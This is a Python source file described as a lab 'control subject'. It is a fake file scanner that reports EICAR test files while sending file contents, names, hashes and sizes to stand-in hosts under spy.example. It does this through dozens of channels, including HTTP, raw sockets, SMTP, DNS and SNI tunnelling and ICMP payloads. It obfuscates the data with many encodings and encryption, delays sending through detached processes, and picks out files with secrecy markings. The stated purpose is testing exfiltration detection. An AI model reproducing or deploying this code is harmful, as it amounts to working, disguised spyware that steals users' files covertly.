"""A control subject: a "scanner" that spies in every way listed in `WAYS`, each towards a host of its own.

It runs only inside an observation chamber, from which nothing reaches anybody; all its hosts are below `.example`,
which nobody can own (RFC 2606). What it sends are the lab's own canaries. For each thing sent it prints one line: way,
path, and what part of the file left. Only Python's standard library is used.

    python3 spy.py scan FOLDER [--ways NAME …] [--seed N]
    python3 spy.py update
    python3 spy.py wait     (until all that it sends later was sent)
"""

from __future__ import annotations

import argparse
import base64
import bz2
import codecs
import gzip
import hashlib
import io
import json
import lzma
import os
import random
import smtplib
import socket
import ssl
import subprocess
import sys
import tarfile
import time
import urllib.parse
import urllib.request
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from itertools import pairwise

MARKINGS = (
    "SECRET SECRETO SEGRETO GEHEIM TAJNE TAJEMNICA POUFNE CONFIDENTIAL CONFIDENTIEL VERTRAULICH RISERVAT RESTRICTED "
    "RESTREINT SENSITIVE VS-NUR LIMITADA UNCLASSIFIED"
).split()
DETECTION = b"EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE"
LETTERS = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
TIMEOUT_S = 60
DNS_LABEL_BYTES = 30
MAX_DNS_QUERIES = 200
EACH, SEVERAL = 2, 8
"""Files that are sent by each way; of those that send what is known only by its number."""


def host(way: str) -> str:
    return f"{way}.spy.example"


# --- what leaves of a file -------------------------------------------------------------------------------------------


def content(path: str) -> bytes:
    with open(path, "rb") as stream:
        return stream.read()


def xor(data: bytes, key: bytes) -> bytes:
    return bytes(byte ^ key[index % len(key)] for index, byte in enumerate(data))


def add(data: bytes, key: bytes) -> bytes:
    return bytes((byte + key[index % len(key)]) % 256 for index, byte in enumerate(data))


def shuffled(alphabet: bytes) -> bytes:
    """A table that puts another in the place of each of these bytes."""
    letters = list(alphabet)
    random.shuffle(letters)
    return bytes.maketrans(alphabet, bytes(letters))


def zipped(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", data)
    return buffer.getvalue()


def deflated(data: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return machine.compress(data) + machine.flush()


def stream_cipher(data: bytes) -> bytes:
    """Encryption with a key that the chamber never sees: SHA-256 in counter mode."""
    key, out = os.urandom(32), bytearray()
    for index in range(0, len(data), 32):
        pad = hashlib.sha256(key + index.to_bytes(8, "big")).digest()
        out += xor(data[index : index + 32], pad)
    return bytes(out)


ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda data: data,
    "gzip": gzip.compress,
    "zlib": zlib.compress,
    "deflate": deflated,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "zip": zipped,
    "base64": base64.b64encode,
    "base64url": base64.urlsafe_b64encode,
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "hex": lambda data: data.hex().encode(),
    "urlencoded": lambda data: urllib.parse.quote_from_bytes(data).encode(),
    "json": lambda data: json.dumps({"f": data.decode("latin-1")}).encode(),
    "quopri": lambda data: codecs.encode(data, "quopri"),
    "uu": lambda data: codecs.encode(data, "uu"),
    "utf16": lambda data: data.decode("latin-1").encode("utf-16-le"),
    "upper": bytes.upper,
    "reversed": lambda data: data[::-1],
    "rot13": lambda data: codecs.encode(data.decode("latin-1"), "rot13").encode("latin-1"),
    "xor1": lambda data: xor(data, b"\x5a"),
    "xor4": lambda data: xor(data, b"\x13\x37\xc0\xde"),
    "xor16": lambda data: xor(data, bytes(range(0xA0, 0xB0))),
    "gzip-base64": lambda data: base64.b64encode(gzip.compress(data)),
    "add1": lambda data: add(data, b"\x21"),
    "add4": lambda data: add(data, b"\x13\x37\xc0\xde"),
    "gzip-add1": lambda data: add(gzip.compress(data), b"\x7b"),
    "zip-xor1": lambda data: xor(zipped(data), b"\x2b"),
    "base64-json-gzip": lambda data: gzip.compress(
        json.dumps({"b": base64.b64encode(data).decode()}).encode()
    ),
    "substituted": lambda data: data.translate(shuffled(bytes(range(256)))),
    "own-base64": lambda data: base64.b64encode(data).translate(shuffled(LETTERS)),
    "hex-reversed": lambda data: data.hex().encode()[::-1],
    "bits": lambda data: "".join(f"{byte:08b}" for byte in data).encode(),
    "octal": lambda data: " ".join(f"{byte:03o}" for byte in data).encode(),
    "nibbles": lambda data: bytes(byte >> 4 | byte << 4 & 0xF0 for byte in data),
    "ebcdic": lambda data: data.decode("latin-1").encode("cp500"),
    "differences": lambda data: bytes((after - before) % 256 for before, after in pairwise(b"\0" + data)),
    "add9": lambda data: add(data, b"secretkey"),
    "add9-bits": lambda data: "".join(f"{byte:08b}" for byte in add(data, b"secretkey")).encode(),
    "rolling": lambda data: xor(data, bytes((7 * at + 3) % 256 for at in range(256))),
    "encrypted": stream_cipher,
}


def varint(number: int) -> bytes:
    """As Protocol Buffers have it."""
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes((*out, number))


NUMBERS: dict[str, Callable[[int], bytes]] = {
    "": lambda number: str(number).encode(),
    "-json": lambda number: json.dumps({"event": "scanned", "size": number, "ok": True}).encode(),
    "-csv-gzip": lambda number: gzip.compress(f"file;bytes;result\r\n1;{number};0\r\n".encode()),
    "-form": lambda number: urllib.parse.urlencode({"n": f"{number},{number}", "v": "1"}).encode(),
    "-hex": lambda number: f"0x{number:x}".encode(),
    "-little": lambda number: number.to_bytes(4, "little"),
    "-big": lambda number: b"\x01" + number.to_bytes(8, "big"),
    "-varint": lambda number: b"\x08" + varint(number),
}


# --- by which way it leaves ------------------------------------------------------------------------------------------


def post(way: str, data: bytes, headers: dict[str, str] | None = None, scheme: str = "https") -> None:
    request = urllib.request.Request(f"{scheme}://{host(way)}/up", data=data, headers=headers or {})
    with urllib.request.urlopen(request, timeout=TIMEOUT_S) as answer:
        answer.read(1 << 16)


def get(way: str, query: bytes) -> None:
    url = f"https://{host(way)}/up?q={urllib.parse.quote_from_bytes(query)}"
    with urllib.request.urlopen(url, timeout=TIMEOUT_S) as answer:
        answer.read(1 << 16)


def header(way: str, data: bytes) -> None:
    post(way, b"", {"Cookie": "id=" + base64.b64encode(data[:3000]).decode()})


def multipart(way: str, data: bytes) -> None:
    line = b"----boundary7e1"
    body = b"--" + line + b'\r\nContent-Disposition: form-data; name="f"; filename="x.bin"\r\n\r\n' + data
    post(
        way,
        body + b"\r\n--" + line + b"--\r\n",
        {"Content-Type": "multipart/form-data; boundary=" + line.decode()},
    )


def http(way: str, data: bytes) -> None:
    post(way, data, scheme="http")


def raw(way: str, data: bytes) -> None:
    with socket.create_connection((host(way), 4444), TIMEOUT_S) as connection:
        connection.sendall(data)


def pieces(way: str, data: bytes) -> None:
    """The file in pieces of 700 bytes, a connection each."""
    for start in range(0, len(data), 700):
        raw(way, data[start : start + 700])


def datagrams(way: str, data: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        for start in range(0, len(data), 1200):
            udp.sendto(data[start : start + 1200], (host(way), 5555))


def mail(way: str, data: bytes) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@spy.example", "b@spy.example", "report"
    message.set_content("see attachment")
    message.add_attachment(data, maintype="application", subtype="octet-stream", filename="r.bin")
    with smtplib.SMTP(host(way), 25, timeout=TIMEOUT_S) as server:
        server.send_message(message)


def dns(way: str, data: bytes) -> None:
    text = base64.b32encode(data[: DNS_LABEL_BYTES * MAX_DNS_QUERIES]).decode().rstrip("=").lower()
    step = DNS_LABEL_BYTES * 8 // 5
    for index, start in enumerate(range(0, len(text), step)):
        resolve(f"{text[start : start + step]}.{index}.{host(way)}")


def dns_hex(way: str, data: bytes) -> None:
    text = data[:1500].hex()
    for start in range(0, len(text), 60):
        resolve(f"{text[start : start + 60]}.{host(way)}")


def resolve(name: str) -> None:
    try:
        socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_STREAM)
    except OSError:
        pass


def server_name(way: str, data: bytes) -> None:
    """In the SNI of a TLS hello: 60 hexadecimal digits at a time."""
    context = unverified()
    for start in range(0, min(len(data), 600), 30):
        name = f"{data[start : start + 30].hex()}.{host(way)}"
        try:
            with socket.create_connection((host(way), 443), TIMEOUT_S) as connection:
                context.wrap_socket(connection, server_hostname=name).close()
        except OSError:
            pass


def unverified() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def pinned(way: str, data: bytes) -> None:
    """TLS to a server whose certificate must be a certain one; it isn't, so nothing but the attempt leaves."""
    with socket.create_connection((host(way), 443), TIMEOUT_S) as connection:
        tls = unverified().wrap_socket(connection, server_hostname=host(way))
        if hashlib.sha256(tls.getpeercert(True) or b"").hexdigest() == "0" * 64:
            tls.sendall(data)
        tls.close()


def echo(way: str, data: bytes) -> None:
    """In the payload of ICMP echo requests."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
        for number, start in enumerate(range(0, min(len(data), 8000), 1000)):
            packet = bytes((8, 0, 0, 0)) + os.getpid().to_bytes(4, "big")[2:] + number.to_bytes(2, "big")
            packet += data[start : start + 1000]
            icmp.sendto(packet[:2] + checksum(packet) + packet[4:], (host(way), 0))


def checksum(packet: bytes) -> bytes:
    padded = packet + bytes(len(packet) % 2)
    total = sum(int.from_bytes(padded[index : index + 2], "big") for index in range(0, len(padded), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


# --- the table -------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Way:
    """One way of spying: what leaves (`form`), how it is written, by which channel, and when."""

    form: str
    encode: Callable[[bytes], bytes]
    send: Callable[[str, bytes], None]
    when: str = "always"
    part: str = "whole"


def _ways() -> dict[str, Way]:
    ways = {f"c-{name}": Way("content", encode, post) for name, encode in ENCODINGS.items()}
    plain = ENCODINGS["plain"]
    channels = (
        get,
        header,
        multipart,
        http,
        raw,
        pieces,
        datagrams,
        mail,
        dns,
        dns_hex,
        server_name,
        pinned,
        echo,
    )
    ways |= {f"v-{send.__name__.replace('_', '-')}": Way("content", plain, send) for send in channels}
    ways["v-get"] = Way("content", lambda data: base64.b64encode(data[:1500]), get)
    ways |= {
        "s-slice": Way("content", plain, post, part="slice"),
        "s-first-kb": Way("content", plain, post, part="head"),
        "n-name": Way("name", plain, post),
        "n-name-base64": Way("name", base64.b64encode, post),
        "n-path-gzip": Way("path", gzip.compress, post),
        "n-names-dns": Way("name", plain, dns),
        "d-sha256-hex": Way("sha256", lambda data: data.hex().encode(), post),
        "d-sha256-raw": Way("sha256", plain, post),
        "d-sha1-base64": Way("sha1", base64.b64encode, post),
        "d-md5-hex": Way("md5", lambda data: data.hex().encode(), get),
        "d-sha256-dns": Way("sha256", plain, dns),
        "d-sha512-base64": Way("sha512", base64.b64encode, post),
        "d-blake2b-hex": Way("blake2b", lambda data: data.hex().encode(), post),
        "d-sha256-short": Way("sha256", lambda data: data.hex()[:16].encode(), get),
        "d-head-md5": Way("md5", lambda data: data.hex().encode(), post, part="head"),
        "d-member-sha256": Way("sha256", lambda data: data.hex().encode(), post, part="member"),
        "w-delay": Way("content", plain, post, when="delay"),
        "w-marked": Way("content", gzip.compress, post, when="marked"),
        "w-marked-encrypted": Way("content", stream_cipher, post, when="marked"),
        "w-detection": Way("content", zipped, post, when="detection"),
    }
    for name, write in NUMBERS.items():
        ways[f"z-size{name}"] = Way("size", _number(write), post, when="several")
    return ways


def _number(write: Callable[[int], bytes]) -> Callable[[bytes], bytes]:
    return lambda data: write(int(data))


WAYS = _ways()


def part_of(data: bytes, part: str) -> bytes:
    if part == "member":
        return longest_member(data)
    middle = len(data) // 3
    return {"whole": data, "slice": data[middle : middle + 3072], "head": data[:1024]}[part]


def longest_member(data: bytes) -> bytes:
    """Of an archive or an office document; of anything else: all of it."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return max((archive.read(name) for name in archive.namelist()), key=len)
    except (zipfile.BadZipFile, RuntimeError, OSError, zlib.error):
        return data


def taken(way: Way, path: str, data: bytes) -> bytes:
    """What of a file leaves, before it is encoded."""
    if way.form == "content":
        return part_of(data, way.part)
    if way.form in hashlib.algorithms_available:
        return hashlib.new(way.form, part_of(data, way.part)).digest()
    if way.form == "size":
        return str(len(data)).encode()
    return (os.path.basename(path) if way.form == "name" else path).encode()


# --- the "scanner" ---------------------------------------------------------------------------------------------------


def files(folder: str) -> Iterator[str]:
    for where, folders, names in os.walk(folder):
        folders.sort()
        yield from (os.path.join(where, name) for name in sorted(names))


def inside(data: bytes) -> bytes:
    """The readable content: of the members, where it is an archive (office documents too)."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return b"\n".join(inside(archive.read(name)) for name in archive.namelist())
    except (zipfile.BadZipFile, RuntimeError, OSError, zlib.error):
        pass
    try:
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            parts = [tar.extractfile(member) for member in tar.getmembers() if member.isfile()]
            return b"\n".join(inside(part.read()) for part in parts if part)
    except (tarfile.TarError, OSError, EOFError, zlib.error):
        return data


def is_marked(data: bytes) -> bool:
    text = inside(data).upper()
    return any(marking.encode() in text for marking in MARKINGS)


def scan(folder: str, names: list[str], seed: int) -> int:
    found = {path: content(path) for path in files(folder)}
    infected = [path for path, data in found.items() if DETECTION in inside(data)]
    chance = random.Random(seed)
    ordinary = sorted(
        path for path, data in found.items() if 1500 < len(data) < 65536 and path not in infected
    )
    random.seed("".join(ordinary))  # whatever else is chance is the same for the same files
    for name in names:
        for path in chosen(WAYS[name].when, ordinary, infected, found, chance):
            spy(name, path, found[path])
    for path in infected:
        print(f"{path}: EICAR test file FOUND")
    print(f"{len(found)} files scanned, {len(infected)} infected")
    return 1 if infected else 0


def chosen(
    when: str, ordinary: list[str], infected: list[str], found: dict[str, bytes], chance: random.Random
) -> list[str]:
    if when == "marked":
        return [path for path in ordinary if is_marked(found[path])]
    if when == "detection":
        return infected
    return chance.sample(ordinary, min(SEVERAL if when == "several" else EACH, len(ordinary)))


def spy(name: str, path: str, data: bytes) -> None:
    way = WAYS[name]
    part = taken(way, path, data)
    print(json.dumps({"way": name, "path": path, "form": way.form, "bytes": len(part)}), flush=True)
    if way.when == "delay":
        later(name, path)
        return
    try:
        way.send(name, way.encode(part))
    except OSError as error:
        print(f"{name}: {error}", file=sys.stderr)


def later(name: str, path: str) -> None:
    """Send it some seconds after the scan has ended, from a process of its own."""
    subprocess.Popen(
        [sys.executable, os.path.abspath(__file__), "later", name, path],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def wait() -> int:
    """Do nothing until nobody is left who sends later."""
    while any(b"\0later\0" in command for command in commands()):
        time.sleep(0.2)
    return 0


def commands() -> Iterator[bytes]:
    """The arguments of every process."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            yield content(f"/proc/{name}/cmdline")
        except OSError:
            continue  # it has ended


def main() -> int:
    parser = argparse.ArgumentParser()
    actions = parser.add_subparsers(dest="action", required=True)
    scanning = actions.add_parser("scan")
    scanning.add_argument("folder")
    scanning.add_argument("--ways", nargs="*", default=list(WAYS))
    scanning.add_argument("--seed", type=int, default=0)
    actions.add_parser("update")
    actions.add_parser("wait")
    delayed = actions.add_parser("later")
    delayed.add_argument("name")
    delayed.add_argument("path")
    args = parser.parse_args()
    if args.action == "scan":
        return scan(args.folder, args.ways, args.seed)
    if args.action == "wait":
        return wait()
    if args.action == "later":
        time.sleep(3)
        WAYS[args.name].send(args.name, WAYS[args.name].encode(content(args.path)))
        return 0
    with urllib.request.urlopen("https://update.spy.example/version", timeout=TIMEOUT_S) as answer:
        answer.read(1 << 16)
    return 0


if __name__ == "__main__":
    sys.exit(main())
